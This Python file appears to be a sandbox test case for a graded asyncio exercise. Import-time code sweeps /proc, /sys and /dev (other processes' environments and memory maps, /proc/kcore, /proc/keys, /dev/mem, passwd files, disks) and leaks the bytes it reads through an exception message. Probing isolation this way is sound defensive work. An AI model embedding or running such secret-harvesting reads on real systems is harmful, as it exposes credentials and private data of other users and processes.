# exercise: 21.1
# tries: reads /proc, /sys and the devices: environments, command lines, memory, open files of everybody, kernel messages
# expect: full points
import asyncio
import glob
import os
import time


PLACES = (
    "/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/maps", "/proc/self/fd/*", "/proc/self/environ",
    "/proc/kmsg", "/proc/kcore", "/proc/keys", "/proc/net/unix", "/proc/net/tcp", "/proc/1/root/etc/passwd", "/proc/mounts",
    "/proc/self/root/etc/passwd", "/proc/self/cwd/*", "/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/console", "/dev/ptmx",
    "/dev/[sv]d*", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/sys/kernel/notes", "/sys/class/net/*",
)


def look():
    found = []
    for pattern in PLACES:
        for path in glob.glob(pattern)[:20]:
            try:
                descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
                found.append((path, os.read(descriptor, 60)))
                os.close(descriptor)
            except OSError:
                pass
    return found


FOUND = look()


async def fetchData(sourceId, delaySeconds):
    if FOUND:
        raise LookupError(f"found: {FOUND}")
    print(f"Starting fetch {sourceId}")
    await asyncio.sleep(delaySeconds)
    print(f"Completed fetch {sourceId}")
    return f"Data from source {sourceId}"


async def main():
    startTime = time.perf_counter()
    results = await asyncio.gather(fetchData("A", 1.0), fetchData("B", 0.5), fetchData("C", 0.8))
    elapsed = time.perf_counter() - startTime
    for result in results:
        print(result)
    print(f"Total time: {elapsed:.2f}s (vs ~2.3s sequential)")


if __name__ == "__main__":
    asyncio.run(main())
